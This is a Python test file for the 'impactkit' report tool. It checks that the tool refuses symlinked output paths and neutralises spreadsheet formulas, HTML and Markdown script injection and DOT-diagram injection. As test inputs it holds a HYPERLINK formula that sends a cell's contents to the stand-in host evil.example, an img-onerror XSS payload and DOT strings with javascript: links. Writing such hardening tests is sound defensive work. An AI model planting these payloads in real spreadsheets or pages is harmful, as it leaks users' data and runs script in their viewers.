"""What impactkit writes is safe to open: nothing through a symbolic link, no formula a spreadsheet
runs, no script in a page or a Markdown viewer, no node or link smuggled into a diagram."""

from __future__ import annotations

import csv
import html
import io
import re
from pathlib import Path

import pytest

import impactkit
from impactkit.core.plugins import make_manager
from tests.conftest import MINIMAL

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SCRIPT = "<img src=x onerror=alert(1)>"


def _study(folder: Path, text: str = MINIMAL) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "study.yaml").write_text(text, encoding="utf-8")
    return folder


def _tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


# -- symbolic links in the output folder ---------------------------------------------------------


@pytest.mark.parametrize("link", ["out", "out/report.html", "out/figures", "out/tables", "out/figures/core.toc.svg"])
def test_a_symbolic_link_in_the_output_folder_is_refused_and_nothing_is_written_outside(tmp_path, cli, link):
    study = _study(tmp_path / "study")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim.txt").write_text("precious", encoding="utf-8")
    out = tmp_path / "out"
    placed = tmp_path / link
    placed.parent.mkdir(parents=True, exist_ok=True)
    if link.endswith((".html", ".svg")):
        placed.symlink_to(outside / "victim.txt")
    else:
        placed.symlink_to(outside, target_is_directory=True)
    before = _tree(outside)
    done = cli("run", study, "-o", out, plugins="core", catch=True)
    assert done.exit_code == 2, done.output
    assert "symbolic link" in done.output and link.split("/")[-1] in done.output
    assert _tree(outside) == before  # not a byte written through the link
    if link != "out":
        assert not (out / "result.json").exists()  # refused before anything was written


def test_a_symbolic_link_is_refused_in_dutch_too(tmp_path, cli):
    study = _study(tmp_path / "study")
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "out").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    done = cli("--lang", "nl", "run", study, "-o", tmp_path / "out", plugins="core", catch=True)
    assert done.exit_code == 2 and "symbolische koppeling" in done.output
    assert not list((tmp_path / "elsewhere").iterdir())


def test_picture_save_does_not_follow_a_link(tmp_path):
    from impactkit.core.errors import UserError
    from impactkit.core.result import Picture

    victim = tmp_path / "victim.svg"
    victim.write_text("precious")
    (tmp_path / "figure.svg").symlink_to(victim)
    with pytest.raises(UserError):
        Picture("t", b"<svg/>").save(tmp_path / "figure.svg")
    assert victim.read_text() == "precious"


# -- formulas in the tables --------------------------------------------------------------------------


def _cells(path: Path) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))) for cell in row]


def test_formula_text_in_a_table_is_neutralised_in_csv_and_kept_as_text_in_xlsx(tmp_path, cli):
    hostile = MINIMAL.replace("group: students", f"group: '{FORMULA}'").replace(
        "group: residents", "group: '@SUM(A1:A9)'"
    )
    study = _study(tmp_path / "study", hostile)
    done = cli("run", study, "-o", tmp_path / "out", plugins="core", catch=True)
    assert done.exit_code == 0, done.output
    cells = _cells(tmp_path / "out" / "tables" / "core.changes_per_group.csv")
    assert "'" + FORMULA in cells and "'@SUM(A1:A9)" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and c != "-")]
    from openpyxl import load_workbook

    book = load_workbook(tmp_path / "out" / "tables.xlsx")
    texts = {c.value: c for sheet in book.worksheets for row in sheet.iter_rows() for c in row}
    assert FORMULA in texts  # the text as written, never a formula
    assert texts[FORMULA].data_type == "s" and texts[FORMULA].quotePrefix


def test_numbers_stay_numbers_in_a_table(tmp_path):
    import pandas as pd

    from impactkit.core.result import table_csv

    frame = pd.DataFrame({"name": ["-5", "+x", "=1+1", "plain"], "value": [-5, 3, -2.5, 0]})
    rows = list(csv.reader(io.StringIO(table_csv(frame))))
    assert rows == [["name", "value"], ["-5", "-5.0"], ["'+x", "3.0"], ["'=1+1", "-2.5"], ["plain", "0.0"]]


def test_the_idg_tables_hold_no_formula(tmp_path, cli):
    study = MINIMAL.replace(
        "  - {person: p1, role: student, stakeholder: students, change: I learn faster}",
        f"  - {{id: c1, person: p1, role: student, stakeholder: students, change: '{FORMULA}', "
        f"theme: '{FORMULA}', idg: Trust, coder: '@evil'}}\n"
        f"  - {{id: c1, person: p1, role: student, stakeholder: students, change: '{FORMULA}', "
        f"theme: '{FORMULA}', idg: Trust, coder: '-cmd'}}",
    )
    folder = _study(tmp_path / "study", study)
    done = cli("run", folder, "-o", tmp_path / "out", plugins="core,idg", catch=True)
    assert done.exit_code in (0, 1), done.output
    tables = sorted((tmp_path / "out" / "tables").glob("idg.*.csv"))
    assert tables
    cells = [c for path in tables for c in _cells(path)]
    assert "'" + FORMULA in cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or re.fullmatch(r"-[\d.eE+-]+", cell), cell


# -- scripts in the report ---------------------------------------------------------------------------

DOUBLE_CODED = f"""\
impactkit: 1
id: xss
title: XSS
route: nonlinear
stakeholders: [{{id: students, name: Students}}]
changes:
  - {{id: c1, person: p1, stakeholder: students, change: I trust them, theme: trust, idg: Trust, coder: '{SCRIPT}'}}
  - {{id: c1, person: p1, stakeholder: students, change: I trust them, theme: trust, idg: Trust, coder: B}}
  - {{id: c2, person: p2, stakeholder: students, change: I learn, theme: learning, idg: Trust}}
"""


def test_a_coders_name_in_the_reliability_sentence_is_text_in_html_and_markdown(tmp_path):
    from impactkit.core.report.html import to_html
    from impactkit.core.report.markdown import to_markdown

    folder = _study(tmp_path / "study", DOUBLE_CODED)
    result = impactkit.run(impactkit.load(folder, plugins=make_manager(load=["core", "idg"])), lang="en")
    document = result.document("en")
    markdown = to_markdown(document)
    assert "coded by more than one coder" in markdown
    assert "<img" not in markdown  # a Markdown viewer shows it as text
    assert "&lt;img src=x onerror=alert(1)>" in markdown
    page = to_html(document)
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page


def test_raw_html_in_a_sections_markdown_is_shown_as_text_not_markup():
    from impactkit.core.report.markdown import no_raw_html

    text = (
        "A <script>alert(1)</script> and <img src=x onerror=alert(1)> and <javascript:alert(1)> and <!-- x -->\n"
        'but `<b>` in code, 1 < 2, and \\<i> escaped\n```mermaid\nflowchart LR\n  a["<b>x</b>"]\n```\n'
    )
    safe = no_raw_html(text)
    assert "<script" not in safe and "<img" not in safe and "<javascript" not in safe and "<!--" not in safe
    assert "`<b>`" in safe and "1 < 2" in safe and "\\<i>" in safe and 'a["<b>x</b>"]' in safe
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark", {"html": True}).render(safe)  # even a viewer that allows raw HTML
    assert "<script" not in html and "<img" not in html and "<!--" not in html
    assert 'href="javascript' not in html


# -- DOT injection -----------------------------------------------------------------------------------

INJECTION = '<x>] evil [URL="javascript:alert(1)" label="evil"]; a -> b [tooltip=<y>'


def test_dot_syntax_in_a_links_assumption_makes_no_node_and_no_javascript_link(tmp_path, cli):
    hostile = MINIMAL.replace("assumption: contact helps", "assumption: '" + INJECTION.replace("'", "''") + "'")
    folder = _study(tmp_path / "study", hostile)
    done = cli("run", folder, "-o", tmp_path / "out", plugins="core", catch=True)
    assert done.exit_code == 0, done.output
    svg = (tmp_path / "out" / "figures" / "core.toc.svg").read_text(encoding="utf-8")
    dot = (tmp_path / "out" / "figures" / "core.toc.dot").read_text(encoding="utf-8")
    assert "<title>evil</title>" not in svg and ">evil</text>" not in svg
    assert not re.search(r"href=\"\s*javascript:", svg, re.IGNORECASE)
    assert "javascript:alert(1)" in svg  # still there, as the tooltip's text
    nodes = {html.unescape(t) for t in re.findall(r'class="node">\s*<title>([^<]*)</title>', svg)}
    assert nodes == {"subsidy", "workshops", "sessions", "less-alone", "inclusive"}
    assert "javascript" not in dot.split("tooltip=")[0]


@pytest.mark.parametrize(
    "text",
    [INJECTION, 'x\\" ] evil [label="e', "a\\", "line\nbreak\r\n", "\\N \\G \\l", '"', "<<b>>", "nul\x00 bell\x07"],
)
def test_dot_escape_never_lets_text_end_its_string(text):
    import graphviz

    from impactkit.core.diagram import dot_escape, dot_text

    for value in (f'"{dot_escape(text)}"', graphviz.Digraph().edge("a", "b", tooltip=dot_text(text)) or None):
        if value is None:
            continue
        body = value[1:-1]
        # an unescaped quote inside would end the string: each " must follow an odd run of backslashes
        for match in re.finditer(r'(\\*)"', body):
            assert len(match.group(1)) % 2 == 1, value
        assert "\n" not in value and "\x00" not in value
    source = graphviz.Digraph()
    source.edge("a", "b", tooltip=dot_text(text))
    edge_line = source.source.splitlines()[1]
    assert re.fullmatch(r'\s*a -> b \[tooltip="(?:[^"\\]|\\.)*"\]', edge_line), edge_line


@pytest.mark.parametrize(
    "dot",
    [
        'digraph { a [URL="javascript:alert(1)"] }',
        'digraph { a [href="  JaVaScRiPt:alert(1)"] }',
        "digraph { a -> b [tailURL=data:text/html,x] }",
        'digraph { a [label=<<TABLE><TR><TD HREF="&#106;avascript:alert(1)">x</TD></TR></TABLE>>] }',
        'digraph { a [labelhref="vbscript:x"] }',
    ],
)
def test_a_javascript_or_data_link_in_dot_is_refused_in_every_format(dot):
    from impactkit.core.render import DotError, render_dot

    for fmt in ("dot", "svg"):
        with pytest.raises(DotError, match="javascript:, data: or vbscript:"):
            render_dot(dot, fmt)


def test_link_words_in_a_label_or_tooltip_are_text_not_links():
    from impactkit.core.render import unsafe_links

    assert unsafe_links('digraph { a [label="URL=javascript:x", tooltip="href=data:y"]; b [URL="https://ok"] }') == []


def test_a_plugin_diagram_with_a_javascript_link_is_that_plugins_failure(tmp_path):
    from impactkit import plugin as api

    class Evil:
        @api.hookimpl
        def impactkit_visualisations(self):
            return [
                api.Visualisation(
                    id="evil.map",
                    title=api.Text(en="Map", nl="Kaart"),
                    kind="diagram",
                    dot=lambda ctx, lang: 'digraph { a [URL="javascript:alert(1)"] }',
                )
            ]

    manager = make_manager(load=["core"])
    manager.register(Evil(), name="evil")
    folder = _study(tmp_path / "study")
    result = impactkit.run(impactkit.load(folder, plugins=manager), lang="en")
    result.write(tmp_path / "out", report=())
    assert not list((tmp_path / "out" / "figures").glob("evil.map.*"))
    failed = [f for f in result.findings if f.plugin == "evil" and f.severity == "error"]
    assert failed and "javascript" in failed[0].message.en


# -- sizes -------------------------------------------------------------------------------------------


@pytest.mark.slow
def test_a_title_of_600_kb_is_written_out_not_hung_on(tmp_path):
    from tests.helpers import run_impactkit

    title = "x" * 300_000 + " " + "y" * 300_000
    study = _study(tmp_path / "study", MINIMAL.replace("title: Demo study", f"title: {title}"))
    done = run_impactkit("run", study, "-o", tmp_path / "out", plugins="core", timeout=240)  # it hung before
    assert done.returncode == 0, done.stderr[-2000:]
    from docx import Document

    assert len(Document(str(tmp_path / "out" / "report.docx")).core_properties.title) == 255
    assert title in (tmp_path / "out" / "report.html").read_text(encoding="utf-8")  # the page has it whole


def test_a_diagrams_title_and_legend_are_cut_to_lay_out_at_once():
    import networkx as nx

    from impactkit.core.diagram import toc_dot

    graph = nx.MultiDiGraph()
    graph.add_node("s", kind="stakeholder", label="z" * 10_000)
    graph.add_node("a", kind="activity", label="Work", stakeholders=["s"])
    dot = toc_dot(graph, "en", title="t" * 100_000)
    assert "t" * 91 not in dot and "t" * 89 + "…" in dot
    assert "z" * 41 not in dot.split("tooltip")[0]


def test_diagram_o_does_not_write_through_a_link(tmp_path, cli):
    study = _study(tmp_path / "study")
    victim = tmp_path / "victim.svg"
    victim.write_text("precious", encoding="utf-8")
    (tmp_path / "toc.svg").symlink_to(victim)
    done = cli("diagram", study, "--view", "toc", "-o", tmp_path / "toc.svg", plugins="core", catch=True)
    assert done.exit_code == 2 and "symbolic link" in done.output, done.output
    assert victim.read_text(encoding="utf-8") == "precious"
    assert cli("diagram", study, "--view", "toc", "-o", tmp_path / "new.svg", plugins="core").exit_code == 0
    assert (tmp_path / "new.svg").read_bytes().lstrip().startswith(b"<")
